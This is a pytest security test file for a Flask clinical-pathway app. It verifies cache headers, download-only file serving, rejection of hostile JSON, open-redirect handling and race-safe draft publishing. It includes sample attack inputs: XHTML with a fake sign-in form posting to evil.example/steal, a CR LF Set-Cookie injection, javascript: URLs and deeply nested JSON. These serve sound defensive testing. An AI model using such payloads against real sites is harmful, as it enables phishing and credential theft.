"""Issue 24, headers and files, drafts and publishing at the same moment, the small web
attacks: each as it was seen, now refused or fixed (on SQLite and PostgreSQL alike).

- patient JSON, PDFs and CSVs were cacheable: every response carrying patient data is
  ``Cache-Control: no-store``; static assets keep caching;
- a draft's BPMN was served inline as XML (XHTML in it drew a fake sign-in form, a meta
  refresh sent a nurse's browser away): pathway files are downloads, never pages;
- deep JSON and 5,000-digit numbers answered 500: 400 in plain words;
- ``?next=`` with CR LF answered 500 after sign-in: it is ignored (home);
- key and file name patterns ended with ``$`` and took a trailing newline: whole matches;
- 8 saves of one draft from the same fingerprint gave two 200s and merged both editors'
  files: exactly one 200, seven 409 naming who saved first, the winner's files alone;
- 4 drafts published at once left three versions "published": one, the others retired once.
"""

from __future__ import annotations

import json
import re
import threading
from collections.abc import Callable
from datetime import date
from pathlib import Path
from typing import Any

import pytest
from flask import Flask
from flask.testing import FlaskClient
from sqlalchemy import select

from mdt.extensions import db
from mdt.models import AuditEventModel, PathwayStatus, PathwayVersionModel
from mdt.services.actor import SYSTEM
from mdt.services.api_tokens import create_token
from mdt.services.errors import InvalidInputError
from mdt.services.pathway_drafts import FILE_NAME, KEY, save_draft
from mdt.services.patients import register_patient
from mdt.web.request_limits import MAX_DEPTH, HostileJSONError, check_json, nesting_depth_over

from .conftest import FIXTURES, PASSWORD, Auth, csrf_token
from .helpers import NHS_NUMBERS

TINY_FORMS = {p.name: p.read_bytes() for p in (FIXTURES / "tiny" / "forms").glob("*.json")}
TINY_BPMN = (FIXTURES / "tiny" / "wound_care.bpmn").read_bytes()
# XHTML that a browser renders when served as XML: a fake sign-in form and a redirect away.
EVIL = (
    b'<?xml version="1.0"?><html xmlns="http://www.w3.org/1999/xhtml"><head>'
    b'<meta http-equiv="refresh" content="0;url=https://evil.example/"/></head><body>'
    b'<form action="https://evil.example/steal"><input name="password"/></form></body></html>'
)


def _no_store(response: Any) -> bool:
    return (
        response.headers.get("Cache-Control") == "no-store"
        and response.headers.get("Pragma") == "no-cache"
    )


def _bearer(user_id: int) -> dict[str, str]:
    _, secret = create_token(SYSTEM, user_id, "tests")
    return {"Authorization": f"Bearer {secret}"}


def _signed_in(app: Flask, username: str) -> tuple[FlaskClient, str]:
    """A browser of its own, signed in, and its CSRF token for API calls that change."""
    browser = app.test_client()
    Auth(browser).login(username)
    return browser, csrf_token(browser, "/account")


# -- headers: no-store on patient data ------------------------------------------------------


def test_patient_data_is_never_cached_static_assets_are(
    app: Flask, client: FlaskClient, auth: Auth, make_user: Any, actor: Any, pathway: Any
) -> None:
    nurse = make_user("cns", username="nurse")
    patient = register_patient(
        actor(nurse), NHS_NUMBERS[0], "Ada", "Cache", date(1960, 1, 1), "Surgery"
    )
    token = _bearer(nurse.id)
    # A token call: the patient's JSON, their FHIR bundle.
    for url in (f"/api/v1/patients/{patient.id}", f"/api/v1/patients/{patient.id}/fhir"):
        response = client.get(url, headers=token)
        assert response.status_code == 200 and _no_store(response), url
    # A signed-in browser: pages, JSON, the care plan PDF.
    auth.login("nurse")
    for url in (
        f"/patients/{patient.id}",
        f"/api/v1/patients/{patient.id}",
        f"/patients/{patient.id}/care-plan.pdf",
    ):
        response = client.get(url)
        assert response.status_code == 200 and _no_store(response), url
    assert client.get(f"/patients/{patient.id}/care-plan.pdf").mimetype == "application/pdf"
    # Static assets hold no patient data and keep caching, signed in or not.
    for url in ("/static/css/app.css", "/static/js/diagram-viewer.js"):
        with client.get(url) as response:
            assert response.status_code == 200
            assert "no-store" not in response.headers.get("Cache-Control", ""), url
            assert "Pragma" not in response.headers
    # The sign-in page (no patient data, but a page) is not stored either.
    assert "no-store" in app.test_client().get("/sign-in").headers["Cache-Control"]


def test_csv_exports_are_never_cached(client: FlaskClient, auth: Auth, make_user: Any) -> None:
    make_user("manager", username="boss")
    auth.login("boss")
    response = client.get("/reports/standards.csv")
    assert response.status_code == 200 and response.mimetype == "text/csv"
    assert _no_store(response)


# -- files: a pathway's files are downloads, never pages --------------------------------------


def test_a_drafts_xhtml_is_a_download_never_a_page(
    client: FlaskClient, auth: Auth, make_user: Any, actor: Any, tiny_pathway: Any
) -> None:
    manager = actor(make_user("manager", username="boss"))
    make_user("cns", username="nurse")
    draft = save_draft(manager, "wound-care", "Wound care", {"wound_care.bpmn": EVIL, **TINY_FORMS})
    auth.login("nurse")
    for url in (
        f"/pathways/{draft.id}/files/wound_care.bpmn",
        f"/pathways/{draft.id}/files/{next(iter(TINY_FORMS))}",
        f"/api/v1/pathways/{draft.id}/bpmn",
    ):
        response = client.get(url)
        assert response.status_code == 200, url
        disposition = response.headers["Content-Disposition"]
        assert disposition.startswith("attachment;") and "filename=" in disposition, url
        assert response.mimetype in ("application/octet-stream", "application/xml"), url
        assert response.headers["X-Content-Type-Options"] == "nosniff"
        assert "sandbox" in response.headers["Content-Security-Policy"]
        assert _no_store(response)
    # The screens' own file route is a type no browser renders.
    page = client.get(f"/pathways/{draft.id}/files/wound_care.bpmn")
    assert page.mimetype == "application/octet-stream" and page.data == EVIL
    # The viewer still finds its file (it fetches the URL and reads the text).
    viewer = client.get(f"/pathways/{tiny_pathway.id}/diagram").get_data(as_text=True)
    url = re.search(r'data-xml-url="([^"]+)"', viewer).group(1)  # type: ignore[union-attr]
    assert client.get(url).data == TINY_BPMN


# -- keys and file names: whole matches --------------------------------------------------------


@pytest.mark.parametrize(
    ("key", "name"),
    [
        ("secondary-breast-cancer\n", "pathway.bpmn"),
        ("wound-care", "pathway.bpmn\n"),
        ("wound-care", "form.json\n"),
    ],
)
def test_a_trailing_newline_is_not_a_key_or_file_name(
    make_user: Any, actor: Any, key: str, name: str
) -> None:
    manager = actor(make_user("manager"))
    with pytest.raises(InvalidInputError):
        save_draft(manager, key, "Look-alike", {name: TINY_BPMN, "x.bpmn": TINY_BPMN})
    assert not KEY.fullmatch("secondary-breast-cancer\n")
    assert not FILE_NAME.fullmatch("pathway.bpmn\n")
    assert KEY.fullmatch("secondary-breast-cancer") and FILE_NAME.fullmatch("pathway.bpmn")


def test_the_api_refuses_look_alike_keys_file_names_and_nhs_numbers(
    client: FlaskClient, make_user: Any, tiny_pathway: Any
) -> None:
    boss = _bearer(make_user("manager").id)
    files = [{"name": "wound_care.bpmn", "content": TINY_BPMN.decode()}]
    look_alike = {"key": "wound-care\n", "title": "Wound care", "files": files}
    response = client.post("/api/v1/pathways", json=look_alike, headers=boss)
    assert response.status_code == 422 and "key" in response.json["error"]["details"]
    bad_name = {"key": "wound-care", "title": "Wound care",
                "files": [{"name": "wound_care.bpmn\n", "content": TINY_BPMN.decode()}]}  # fmt: skip
    response = client.post("/api/v1/pathways", json=bad_name, headers=boss)
    assert response.status_code == 422
    assert db.session.scalar(select(PathwayVersionModel).where(
        PathwayVersionModel.key.like("wound-care_%"))) is None  # fmt: skip
    nurse = _bearer(make_user("cns").id)
    patient = {"nhs_number": NHS_NUMBERS[0] + "\n", "given_name": "Ada", "family_name": "Line",
               "date_of_birth": "1961-02-03", "gp_practice": "Surgery"}  # fmt: skip
    response = client.post("/api/v1/patients", json=patient, headers=nurse)
    assert response.status_code == 422 and "nhs_number" in response.json["error"]["details"]


# -- hostile JSON: 400 in plain words ----------------------------------------------------------


def test_depth_is_counted_without_recursion_and_strings_do_not_count() -> None:
    assert not nesting_depth_over(b"[" * MAX_DEPTH + b"]" * MAX_DEPTH, MAX_DEPTH)
    assert nesting_depth_over(b"[" * (MAX_DEPTH + 1) + b"]" * (MAX_DEPTH + 1), MAX_DEPTH)
    assert nesting_depth_over(b"[" * 1_000_000, MAX_DEPTH)
    brackets_in_text = json.dumps({"a": "[[[[" * 100, "b": [{"c": '}}}}\\"]]'}]}).encode()
    assert not nesting_depth_over(brackets_in_text, MAX_DEPTH)
    wide = json.dumps([[i, {"x": [i]}] for i in range(10_000)]).encode()
    assert not nesting_depth_over(wide, MAX_DEPTH)


@pytest.mark.parametrize(
    ("body", "refused"),
    [
        (b"[1e999]", "too large"),
        (b"[12E+400]", "too large"),
        (b'{"a": -Infinity}', "Infinity"),
        (b"[NaN]", "NaN"),
        (b"[" + b"9" * 101 + b"]", "digits"),
        (b"[1." + b"9" * 101 + b"]", "digits"),
        (b'{"a": "NaN", "b": "' + b"9" * 500 + b'", "c": "1e999"}', None),  # text, not numbers
        (b"[1.5e300, 2E-400, 0.0000001e310, true, false, null, " + b"9" * 100 + b"]", None),
        (b'{"a": [1, 2}', "brackets do not match"),
        (b'{"a": tru}', None),  # other syntax errors: the view's parser answers them
    ],
)
def test_numbers_are_read_outside_strings(body: bytes, refused: str | None) -> None:
    if refused is None:
        check_json(body)
    else:
        with pytest.raises(HostileJSONError, match=refused):
            check_json(body)


def test_deep_json_and_huge_numbers_are_refused_in_plain_words(
    app: Flask, client: FlaskClient, make_user: Any, pathway: Any
) -> None:
    nurse = make_user("cns", username="nurse")
    token = _bearer(nurse.id)
    patient = {"nhs_number": NHS_NUMBERS[0], "given_name": "Ada", "family_name": "Deep",
               "date_of_birth": "1961-02-03", "gp_practice": "Surgery"}  # fmt: skip
    attacks = {
        "nested": '{"given_name": ' + "[" * 50_000 + "]" * 50_000 + "}",
        "nested 33": json.dumps({**patient, "extra": json.loads("[" * 33 + "]" * 33)}),
        "digits": json.dumps(patient)[:-1] + ', "age": ' + "9" * 5000 + "}",
        "decimal digits": json.dumps(patient)[:-1] + ', "age": 1.' + "9" * 5000 + "}",
        "too large": json.dumps(patient)[:-1] + ', "age": 1e999}',
        "NaN": json.dumps(patient)[:-1] + ', "age": NaN}',
    }
    browser, csrf = _signed_in(app, "nurse")
    for what, body in attacks.items():
        for caller, headers in ((client, token), (browser, {"X-CSRFToken": csrf})):
            response = caller.post(
                "/api/v1/patients", data=body, content_type="application/json", headers=headers
            )
            assert response.status_code == 400, (what, response.status_code)
            error = response.json["error"]
            assert error["code"] == "bad_request" and error["message"], what
            assert any(word in error["message"] for word in ("nested", "digits", "number")), (
                what,
                error["message"],
            )
    # An ordinary body still registers the patient; malformed JSON is still the view's 4xx.
    response = client.post("/api/v1/patients", json=patient, headers=token)
    assert response.status_code == 201
    response = client.post(
        "/api/v1/patients", data="{not json", content_type="application/json", headers=token
    )
    assert 400 <= response.status_code < 500


def test_a_body_over_the_limit_is_413_in_plain_words(
    app: Flask, client: FlaskClient, make_user: Any
) -> None:
    token = _bearer(make_user("cns").id)
    limit = app.config["MAX_CONTENT_LENGTH"]
    body = '{"given_name": "' + "a" * limit + '"}'
    response = client.post(
        "/api/v1/patients", data=body, content_type="application/json", headers=token
    )
    assert response.status_code == 413
    assert "MB" in response.json["error"]["message"]


# -- ?next= after sign-in ---------------------------------------------------------------------


@pytest.mark.parametrize(
    "target",
    [
        "/tasks\r\nSet-Cookie: stolen=1",
        "/tasks\n",
        "/ta sks",
        "/\tevil.example",
        "/\u202etasks",
        "//evil.example/x",
        "/\\evil.example",
        "https://evil.example/",
        "javascript:alert(1)",
    ],
)
def test_next_that_is_not_a_path_goes_home_never_500(
    client: FlaskClient, make_user: Any, target: str
) -> None:
    make_user("cns", username="nurse")
    token = csrf_token(client, "/sign-in")
    response = client.post(  # the test client sends CR LF as %0D%0A, as a browser does
        "/sign-in",
        query_string={"next": target},
        data={"username": "nurse", "password": PASSWORD, "csrf_token": token},
    )
    assert response.status_code == 302 and response.location == "/"


def test_a_path_next_is_still_followed(client: FlaskClient, make_user: Any) -> None:
    make_user("cns", username="nurse")
    token = csrf_token(client, "/sign-in")
    response = client.post(
        "/sign-in",
        query_string={"next": "/tasks?q=José"},
        data={"username": "nurse", "password": PASSWORD, "csrf_token": token},
    )
    assert response.status_code == 302 and response.location.startswith("/tasks?q=")


# -- drafts and publishing at the same moment ---------------------------------------------------


def _race(calls: list[Callable[[], Any]]) -> list[Any]:
    """Run the calls at the same moment, each on its own thread; their responses in order."""
    barrier = threading.Barrier(len(calls))
    results: list[Any] = [None] * len(calls)

    def run(index: int) -> None:
        barrier.wait()
        try:
            results[index] = calls[index]()
        except Exception as error:  # a crash is a result to show
            results[index] = error

    threads = [threading.Thread(target=run, args=(i,)) for i in range(len(calls))]
    for thread in threads:
        thread.start()
    for thread in threads:
        thread.join(timeout=240)
    return results


def _stored_files(version_id: int) -> dict[str, bytes]:
    db.session.expire_all()
    version = db.session.get(PathwayVersionModel, version_id)
    return {f.name: f.content for f in version.files}


def test_eight_saves_of_one_draft_one_wins_seven_are_told_who_saved_first(
    app: Flask, make_user: Any, actor: Any, tiny_pathway: Any
) -> None:
    manager = actor(make_user("manager", username="boss"))
    draft = save_draft(
        manager, "wound-care", "Wound care", {"wound_care.bpmn": TINY_BPMN, **TINY_FORMS}
    )
    draft_id, started_from = draft.id, draft.sha256
    editors = [_signed_in(app, "boss") for _ in range(8)]
    db.session.remove()  # the test's own session holds nothing while they race

    def save(index: int) -> Callable[[], Any]:
        browser, csrf = editors[index]
        # Each editor changes the diagram and adds a file of their own: a merge would show.
        files = {
            "wound_care.bpmn": TINY_BPMN + f"<!-- editor {index} -->".encode(),
            f"note-{index}.json": b"{}",
            **TINY_FORMS,
        }
        body = {
            "expected_sha256": started_from,
            "files": [{"name": n, "content": c.decode()} for n, c in files.items()],
        }
        return lambda: browser.put(
            f"/api/v1/pathways/{draft_id}/files", json=body, headers={"X-CSRFToken": csrf}
        )

    responses = _race([save(i) for i in range(8)])
    statuses = sorted(getattr(r, "status_code", r) for r in responses)
    assert statuses == [200] + [409] * 7, statuses
    winner = next(i for i, r in enumerate(responses) if r.status_code == 200)
    for response in responses:
        if response.status_code == 409:
            message = response.json["error"]["message"]
            assert "Someone else saved this draft" in message and "boss" in message
    stored = _stored_files(draft_id)
    notes = sorted(name for name in stored if name.startswith("note-"))
    assert notes == [f"note-{winner}.json"]  # the winner's files alone, nothing merged
    assert stored["wound_care.bpmn"].endswith(f"<!-- editor {winner} -->".encode())
    saved = db.session.scalars(
        select(AuditEventModel).where(
            AuditEventModel.action == "pathway.draft_saved",
            AuditEventModel.object_id == str(draft_id),
        )
    ).all()
    assert len(saved) == 2  # the draft made, and the one save that won


def test_four_drafts_published_at_once_leave_one_published_each_replaced_once(
    app: Flask, make_user: Any, actor: Any, tiny_pathway: Any
) -> None:
    manager = actor(make_user("manager", username="boss"))
    drafts = [
        save_draft(
            manager,
            "wound-care",
            "Wound care",
            {"wound_care.bpmn": TINY_BPMN + f"<!-- {i} -->".encode(), **TINY_FORMS},
        ).id
        for i in range(4)
    ]
    managers = [_signed_in(app, "boss") for _ in range(4)]
    db.session.remove()

    def publish(index: int) -> Callable[[], Any]:
        browser, csrf = managers[index]
        return lambda: browser.post(
            f"/api/v1/pathways/{drafts[index]}/publish", json={}, headers={"X-CSRFToken": csrf}
        )

    responses = _race([publish(i) for i in range(4)])
    statuses = [getattr(r, "status_code", r) for r in responses]
    assert statuses == [200] * 4, [
        (s, getattr(r, "json", None)) for s, r in zip(statuses, responses, strict=True)
    ]
    versions = db.session.scalars(
        select(PathwayVersionModel).where(PathwayVersionModel.key == "wound-care")
    ).all()
    published = [v.version for v in versions if v.status == PathwayStatus.PUBLISHED]
    assert len(published) == 1, {v.version: v.status for v in versions}
    assert {v.status for v in versions} == {PathwayStatus.PUBLISHED, PathwayStatus.RETIRED}
    # Each version replaced was replaced by exactly one publish.
    replaced = [
        number
        for event in db.session.scalars(
            select(AuditEventModel).where(AuditEventModel.action == "pathway.published")
        )
        if event.detail["key"] == "wound-care"
        for number in event.detail["replaces"]
    ]
    assert sorted(replaced) == sorted(v.version for v in versions if v.version != published[0])


def test_one_draft_published_four_times_at_once_is_published_once(
    app: Flask, make_user: Any, actor: Any, tiny_pathway: Any
) -> None:
    manager = actor(make_user("manager", username="boss"))
    draft_id = save_draft(
        manager, "wound-care", "Wound care", {"wound_care.bpmn": TINY_BPMN, **TINY_FORMS}
    ).id
    managers = [_signed_in(app, "boss") for _ in range(4)]
    db.session.remove()
    responses = _race(
        [
            (lambda b=browser, c=csrf: b.post(
                f"/api/v1/pathways/{draft_id}/publish", json={}, headers={"X-CSRFToken": c}))
            for browser, csrf in managers
        ]
    )  # fmt: skip
    statuses = sorted(getattr(r, "status_code", r) for r in responses)
    assert statuses == [200, 409, 409, 409], statuses
    for response in responses:
        if response.status_code == 409:
            assert "published" in response.json["error"]["message"]
    published = db.session.scalars(
        select(PathwayVersionModel).where(
            PathwayVersionModel.key == "wound-care",
            PathwayVersionModel.status == PathwayStatus.PUBLISHED,
        )
    ).all()
    assert [v.id for v in published] == [draft_id]
    events = db.session.scalars(
        select(AuditEventModel).where(
            AuditEventModel.action == "pathway.published",
            AuditEventModel.object_id == str(draft_id),
        )
    ).all()
    assert len(events) == 1 and events[0].detail["replaces"] == [1]


def test_a_save_while_publishing_is_refused_not_lost(
    app: Flask, make_user: Any, actor: Any, tiny_pathway: Any
) -> None:
    """A save and a publish of one draft at once: never both (a published version never
    changes); whichever comes second is refused."""
    manager = actor(make_user("manager", username="boss"))
    draft = save_draft(
        manager, "wound-care", "Wound care", {"wound_care.bpmn": TINY_BPMN, **TINY_FORMS}
    )
    draft_id, started_from = draft.id, draft.sha256
    (saver, save_csrf), (publisher, publish_csrf) = (_signed_in(app, "boss") for _ in range(2))
    db.session.remove()
    files = {"wound_care.bpmn": TINY_BPMN + b"<!-- late -->", **TINY_FORMS}
    body = {
        "expected_sha256": started_from,
        "files": [{"name": n, "content": c.decode()} for n, c in files.items()],
    }
    save, publish = _race(
        [
            lambda: saver.put(
                f"/api/v1/pathways/{draft_id}/files", json=body,
                headers={"X-CSRFToken": save_csrf}),
            lambda: publisher.post(
                f"/api/v1/pathways/{draft_id}/publish", json={},
                headers={"X-CSRFToken": publish_csrf}),
        ]
    )  # fmt: skip
    assert sorted([save.status_code, publish.status_code]) == [200, 409]
    db.session.expire_all()
    version = db.session.get(PathwayVersionModel, draft_id)
    if publish.status_code == 200:
        assert version.status == PathwayStatus.PUBLISHED
        assert not _stored_files(draft_id)["wound_care.bpmn"].endswith(b"<!-- late -->")
    else:
        assert version.status == PathwayStatus.DRAFT
        assert _stored_files(draft_id)["wound_care.bpmn"].endswith(b"<!-- late -->")


def test_docs_name_each_control_and_its_test() -> None:
    text = (Path(__file__).resolve().parent.parent / "docs" / "security.md").read_text()
    section = text.split("### Web hardening (issue 24)")[1].split("\n## ")[0]
    for name in (
        "test_patient_data_is_never_cached_static_assets_are",
        "test_a_drafts_xhtml_is_a_download_never_a_page",
        "test_a_trailing_newline_is_not_a_key_or_file_name",
        "test_deep_json_and_huge_numbers_are_refused_in_plain_words",
        "test_next_that_is_not_a_path_goes_home_never_500",
        "test_eight_saves_of_one_draft_one_wins_seven_are_told_who_saved_first",
        "test_four_drafts_published_at_once_leave_one_published_each_replaced_once",
    ):
        assert name in section, name


def test_managers_opening_the_draft_at_once_share_one_draft(
    app: Flask, make_user: Any, tiny_pathway: Any
) -> None:
    make_user("manager", username="boss")
    v1 = tiny_pathway.id
    browsers = [app.test_client() for _ in range(4)]
    tokens = []
    for browser in browsers:
        Auth(browser).login("boss")
        tokens.append(csrf_token(browser, "/pathways"))
    db.session.remove()
    responses = _race(
        [
            (lambda b=browser, t=token: b.post(f"/pathways/{v1}/draft", data={"csrf_token": t}))
            for browser, token in zip(browsers, tokens, strict=True)
        ]
    )
    assert [getattr(r, "status_code", r) for r in responses] == [302] * 4
    drafts = db.session.scalars(
        select(PathwayVersionModel).where(PathwayVersionModel.status == PathwayStatus.DRAFT)
    ).all()
    assert len(drafts) == 1
    assert {r.location for r in responses} == {f"/pathways/{drafts[0].id}/edit"}
